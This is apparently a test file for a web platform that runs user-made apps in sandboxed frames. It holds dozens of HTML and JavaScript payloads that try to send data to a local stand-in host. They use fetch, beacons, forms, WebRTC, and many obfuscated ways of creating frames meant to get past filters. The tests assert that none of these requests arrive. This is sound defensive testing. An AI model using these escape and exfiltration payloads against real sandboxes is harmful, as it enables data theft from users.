import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { type AddressInfo, createServer, type Socket } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { browserForTests } from '#testing/browser.ts'
import { drawnRows } from '#testing/drawn-rows.ts'
import { serverForTests, type TestAccount } from '#testing/server.ts'

const open = browserForTests({ mayLogErrors: true, isWhole: true })
const server = serverForTests()

/** Everything that has arrived outside: requests, bare connections and datagrams. */
const arrived: string[] = []
const sockets = new Set<Socket>()
const outside = createServer((socket) => {
  sockets.add(socket)
  arrived.push('a connection')
  socket.on('error', () => undefined)
  socket.once('data', (data) => {
    arrived.push(`a request: ${data.toString('latin1').split('\r\n')[0]}`)
    socket.end()
  })
})
const datagrams = createSocket('udp4')
let url = ''
let stun = ''

beforeAll(async () => {
  await once(outside.listen(0, '127.0.0.1'), 'listening')
  datagrams.on('message', () => arrived.push('a datagram'))
  datagrams.bind(0, '127.0.0.1')
  await once(datagrams, 'listening')
  url = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
  stun = `stun:127.0.0.1:${datagrams.address().port}`
})
afterAll(() => {
  for (const socket of sockets) socket.destroy()
  outside.close()
  datagrams.close()
})

/** A script that sends datagrams by WebRTC, if the window supports it. */
const webRtc = (scope = 'window') =>
  `try{const c=new ${scope}.RTCPeerConnection({iceServers:[{urls:'${stun}'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}catch{}`
/** Statements that create a frame `f`, which then runs WebRTC in its own document. */
const frameBy = (make: string, insert = 'f.srcdoc=s;document.documentElement.append(f)') =>
  `<div id=d contenteditable></div><script>const s="<script>${webRtc().replaceAll('"', '\\"')}</scr"+"ipt>";const n='if'+'rame',x='http://www.w3.org/1999/xhtml';let f;${make};${insert}</script>`
const createDocument = 'f=document.implementation.createDocument(x,n).documentElement'

/** The possible ways out, each as the source of an app. */
const ways: readonly (readonly [string, () => string])[] = [
  ['fetch', () => `<script>fetch('${url}/fetch').catch(()=>{})</script>`],
  [
    'XMLHttpRequest',
    () => `<script>const x=new XMLHttpRequest();try{x.open('POST','${url}/xhr');x.send('x')}catch{}</script>`,
  ],
  ['sendBeacon', () => `<script>navigator.sendBeacon('${url}/beacon','x')</script>`],
  [
    'WebSocket and EventSource',
    () =>
      `<script>try{new WebSocket('${url.replace('http', 'ws')}/ws')}catch{};try{new EventSource('${url}/es')}catch{}</script>`,
  ],
  [
    'images',
    () =>
      `<img src="${url}/img"><img srcset="${url}/srcset 1x"><input type=image src="${url}/input"><svg><image href="${url}/svg"/><use href="${url}/use#a"/></svg><script>new Image().src='${url}/js'</script>`,
  ],
  [
    'forms',
    () =>
      `<form action="${url}/form" method=post><input name=a value=secret></form><script>document.forms[0].submit()</script><form id=g action="${url}/get"></form><button form=g formaction="${url}/b" id=k>x</button><script>k.click()</script>`,
  ],
  ['meta refresh', () => `<meta http-equiv=refresh content="0;url=${url}/meta">`],
  [
    'the top window',
    () => `<script>try{top.location='${url}/top'}catch{};try{parent.location.href='${url}/parent'}catch{}</script>`,
  ],
  [
    'popups and links',
    () =>
      `<a href="${url}/blank" target=_blank id=a></a><a href="${url}/ping" target=_top ping="${url}/ping2" id=b></a><script>try{open('${url}/popup')}catch{};a.click();b.click()</script>`,
  ],
  [
    'style sheets',
    () =>
      `<style>@import '${url}/import';@import url(${url}/import2);body{background:url(${url}/bg)}@font-face{font-family:x;src:url(${url}/font)}p{font-family:x}</style><link rel=stylesheet href="${url}/style"><p>x`,
  ],
  [
    'workers',
    () =>
      `<script>try{new Worker('${url}/w')}catch{};try{new Worker(URL.createObjectURL(new Blob(["fetch('${url}/bw')"])))}catch{};try{new SharedWorker('data:text/javascript,fetch("${url}/sw")')}catch{};navigator.serviceWorker?.register('/sw.js').catch(()=>{})</script>`,
  ],
  [
    'scripts from elsewhere',
    () =>
      `<script src="${url}/s"></script><script>import('${url}/m').catch(()=>{});const s=document.createElement('script');s.src='${url}/d';document.documentElement.append(s)</script>`,
  ],
  [
    'hints',
    () =>
      `<link rel=dns-prefetch href="${url}"><link rel=preconnect href="${url}"><link rel=prefetch href="${url}/p"><link rel=preload as=image href="${url}/pl"><link rel=modulepreload href="${url}/mp"><link rel=prerender href="${url}/pr"><link rel=icon href="${url}/i"><link rel=manifest href="${url}/mf"><script>const l=document.createElement('link');l.rel='preconnect';l.href='${url}/';document.head.append(l)</script>`,
  ],
  [
    'speculation rules',
    () =>
      `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}/spec"]}],"prerender":[{"source":"list","urls":["${url}/spec2"]}]}</script>`,
  ],
  [
    'media and plug-ins',
    () =>
      `<video src="${url}/v" autoplay poster="${url}/po"></video><audio src="${url}/a"></audio><object data="${url}/o"></object><embed src="${url}/e">`,
  ],
  ['frames elsewhere', () => `<iframe src="${url}/f"></iframe><frameset><frame src="${url}/ff"></frameset>`],
  ['WebRTC', () => `<script>${webRtc()}</script>`],
  [
    'WebRTC in a separate frame',
    () =>
      `<iframe srcdoc="<script>${webRtc()}</script>"></iframe><iframe src="javascript:${webRtc()}"></iframe><iframe id=q></iframe><script>try{${webRtc('q.contentWindow')}}catch{}</script>`,
  ],
  ['a frame by createElement', () => frameBy('f=document.createElement(n)')],
  [
    'a frame by a name that changes',
    () => frameBy("let i=0;f=document.createElement({toString(){return i++?n:'div'}})"),
  ],
  ['a frame by createElementNS', () => frameBy("f=document.createElementNS('http://www.w3.org/1999/xhtml','x:'+n)")],
  ['a frame by innerHTML', () => frameBy("d.innerHTML='<'+n+'></'+n+'>';f=d.firstChild")],
  ['a frame by setHTMLUnsafe', () => frameBy("d.setHTMLUnsafe('<'+n+'></'+n+'>');f=d.firstChild")],
  [
    'a frame by a range',
    () => frameBy("f=document.createRange().createContextualFragment('<'+n+'></'+n+'>').firstChild"),
  ],
  [
    'a frame by execCommand',
    () => frameBy("d.focus();document.execCommand('insertHTML',false,'<'+n+'></'+n+'>');f=d.querySelector(n)"),
  ],
  [
    'a frame by XML',
    () =>
      frameBy(
        `f=new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;'+n+' xmlns=&#39;http://www.w3.org/1999/xhtml&#39;/>">]><a>&e;</a>','text/xml').documentElement.firstChild`,
      ),
  ],
  ['a frame by createDocument', () => frameBy(createDocument)],
  [
    'a frame by createDocument with a prefix',
    () => frameBy("f=document.implementation.createDocument(x,'x:'+n).documentElement"),
  ],
  [
    'a frame by createDocument, complete before it is adopted',
    () => frameBy(createDocument, "f.setAttribute('srcdoc',s);document.documentElement.append(document.adoptNode(f))"),
  ],
  [
    'a copy of a frame by createDocument',
    () => frameBy(createDocument, 'f.srcdoc=s;document.documentElement.append(document.importNode(f,true))'),
  ],
  [
    'a frame by createDocument, with an attribute node',
    () =>
      frameBy(
        `${createDocument};const a=f.ownerDocument.createAttribute('srcdoc')`,
        'a.value=s;f.setAttributeNode(a);document.documentElement.append(f)',
      ),
  ],
  [
    'a frame by createDocument, with an attribute node that changes',
    () =>
      frameBy(
        `${createDocument};const a=document.createAttribute('srcdoc')`,
        'f.setAttributeNode(a);document.documentElement.append(f);a.value=s',
      ),
  ],
  [
    'a frame by a range of another document',
    () =>
      frameBy(
        "const r=document.implementation.createDocument(x,'html').createRange();r.selectNode(r.startContainer.documentElement);f=r.createContextualFragment('<y:'+n+' xmlns:y=\"'+x+'\"/>').firstChild",
      ),
  ],
  [
    'a frame by innerHTML of another document',
    () =>
      frameBy(
        "const e=document.implementation.createDocument(x,'html').documentElement;e.innerHTML='<y:'+n+' xmlns:y=\"'+x+'\"/>';f=e.firstChild",
      ),
  ],
  ['a frame by parseHTMLUnsafe', () => frameBy("f=Document.parseHTMLUnsafe('<'+n+'></'+n+'>').querySelector(n)")],
  [
    'a frame by XSLT',
    () =>
      frameBy(
        `const t=new XSLTProcessor(),p=new DOMParser();t.importStylesheet(p.parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:element name="'+n+'" namespace="'+x+'"/></xsl:template></xsl:stylesheet>','text/xml'));f=t.transformToFragment(p.parseFromString('<a/>','text/xml'),document).firstChild`,
      ),
  ],
  [
    'a frame by document.open in another document',
    () =>
      frameBy(
        "const e=document.implementation.createHTMLDocument();e.open();e.write('<'+n+'></'+n+'>');f=e.querySelector(n)",
      ),
  ],
  ['a javascript address that replaces the document', () => frameBy('window.f=s', "location='javascript:window.f'")],
  [
    'a frame by a custom element',
    () => frameBy("class X extends HTMLIFrameElement{};customElements.define('x-f',X,{extends:n});f=new X()"),
  ],
  [
    'a frame by document.write',
    () =>
      `<script>document.write('<if');document.write('rame srcdoc="<script>${webRtc().replaceAll("'", '&#39;')}</scr'+'ipt>"></if'+'rame>')</script>`,
  ],
  [
    'a frame with patterns that match nothing',
    () =>
      frameBy(
        "RegExp.prototype.exec=()=>null;RegExp.prototype.test=()=>false;String.prototype.slice=()=>'div';String.prototype.replace=function(){return this};f=document.createElement(n)",
      ),
  ],
  [
    'storage',
    () =>
      "<script>for(const n of ['localStorage','sessionStorage','indexedDB','caches'])try{window[n].open?.('x');document.title='stored in '+n}catch{};try{document.cookie='a=b'}catch{}</script>",
  ],
]

async function appOf(ada: TestAccount, source: string): Promise<string> {
  const html = `<!doctype html><html><body>${source}<script>document.body?.append('ran')</script></body></html>`
  return (await ada.ok('apps.create', { name: 'Way out', html, public: true })).url
}

/** Opens an app and waits until its scripts have run, and long enough for their requests to arrive. */
async function run(page: Page, address: string): Promise<void> {
  await page.goto(address)
  // The page removes the frame of an app that navigates.
  await page.locator('iframe.app[src], [data-notice]:not([hidden])').first().waitFor({ state: 'attached' })
  await page.waitForTimeout(300)
}

interface FrameResponse {
  readonly headers: Readonly<Record<string, string>>
  readonly body: string
}

/** Changes the responses with apps before the browser sees them. */
async function changeFrames(page: Page, change: (response: FrameResponse) => FrameResponse): Promise<void> {
  await page.route('**/apps/-/frame/*', async (route) => {
    const headers = { ...(await route.request().allHeaders()), 'sec-fetch-dest': 'iframe' }
    const response = await route.fetch({ headers })
    await route.fulfill({ response, ...change({ headers: response.headers(), body: await response.text() }) })
  })
}

describe('an app in its frame', () => {
  let page: Page
  let ada: TestAccount
  beforeAll(async () => {
    ada = await server().account()
    ;({ page } = await open())
  })

  test.each(drawnRows(ways, 16))('gets nothing out by %s', async (_way, source) => {
    arrived.length = 0
    const address = await appOf(ada, source())
    await run(page, address)
    expect(page.url()).toBe(address)
    expect(page.context().pages()).toHaveLength(1)
    expect(arrived).toEqual([])
  })

  test('cannot use WebRTC even if the script in front of it is gone, because the browser blocks it', async () => {
    const { page: own } = await open()
    await changeFrames(own, ({ headers, body }) => ({ headers, body: body.replace(/<script>[\s\S]*?<\/script>/, '') }))
    const address = await appOf(ada, `<script>${webRtc()}</script>${frameBy("f=document.createElement('ifr'+'ame')")}`)
    arrived.length = 0
    await run(own, address)
    expect(await own.frameLocator('iframe.app').locator('html').count()).toBe(1)
    expect(arrived).toEqual([])
  })

  test('that navigates in a loop is closed, and reaches none of the hosts that it names', async () => {
    arrived.length = 0
    const outsideHosts = `'${url}/'.replace('127.0.0.1','127.0.0.'+i)`
    await page.goto(await appOf(ada, `<script>for(let i=2;i<40;i++)location=${outsideHosts}</script>`))
    await page.getByText('The app was closed because it tried to open another page.').waitFor()
    expect(await page.locator('iframe.app').count()).toBe(0)
    await page.waitForTimeout(300)
    expect(arrived).toEqual([])
  })

  test('may reload itself', async () => {
    await page.goto(
      await appOf(
        ada,
        "<script>if(performance.getEntriesByType('navigation')[0].type!=='reload')location.reload();else document.title='again';mu.service('blog','list').then(()=>document.body.append(document.title))</script>",
      ),
    )
    await page.frameLocator('iframe.app').locator('body', { hasText: 'again' }).waitFor()
  })

  test('gets no request out by navigating its frame, not even one to this server', async () => {
    arrived.length = 0
    for (const to of [`${url}/nav`, '/u/somebody', '/apps/-/host.js']) {
      const address = await appOf(ada, `<script>setTimeout(()=>{location='${to}'},30)</script>`)
      await run(page, address)
      await page.waitForTimeout(150)
      expect(page.frames().map((frame) => new URL(frame.url()).pathname)).not.toContain(new URL(to, url).pathname)
    }
    expect(arrived).toEqual([])
  })

  test('has no access to cookies or to the page around it', async () => {
    const address = await appOf(
      ada,
      "<script>let t=[];try{t.push(document.cookie)}catch{t.push('no cookie')};try{t.push(parent.document.title)}catch{t.push('no parent')};t.push(origin);document.body.append(t.join(', '))</script>",
    )
    await run(page, address)
    expect(await page.frameLocator('iframe.app').locator('body').innerText()).toContain('no cookie, no parent, null')
  })

  test('that loops forever leaves the page around it usable', async () => {
    const address = await appOf(ada, '<script>setTimeout(()=>{for(;;);},0)</script>')
    // The frame never finishes loading.
    await page.goto(address, { waitUntil: 'domcontentloaded' })
    await page.waitForTimeout(500)
    expect(await page.evaluate('1 + 1')).toBe(2)
    await page.getByRole('link', { name: 'Errors' }).click({ noWaitAfter: true })
    await page.waitForURL('**/docs/errors', { waitUntil: 'commit' })
  })
}, 120_000)

describe('an app in a browser without Connection-Allowlist', () => {
  let page: Page
  let ada: TestAccount
  beforeAll(async () => {
    ada = await server().account()
    ;({ page } = await open())
    await changeFrames(page, ({ headers: { 'connection-allowlist': removed, ...headers }, body }) => {
      expect(removed).toBe('(response-origin)')
      return { headers, body }
    })
  })

  const withFrames = ways.filter(([way]) => /frame|WebRTC|javascript/.test(way))
  test.each(drawnRows(withFrames, 10))('gets nothing out by %s', async (_way, source) => {
    arrived.length = 0
    await run(page, await appOf(ada, source()))
    expect(arrived).toEqual([])
  })

  test('is closed soon after it begins to navigate in a loop', async () => {
    arrived.length = 0
    const navigating = `setInterval(()=>{location='${url}/'.replace('127.0.0.1','127.0.0.'+(i++))},100)`
    await page.goto(await appOf(ada, `<script>let i=2;${navigating}</script>`))
    await page.getByText('The app was closed because it tried to open another page.').waitFor()
    await page.waitForTimeout(500)
    expect(await page.locator('iframe.app').count()).toBe(0)
    expect(arrived.length).toBeLessThanOrEqual(1)
  })
}, 120_000)
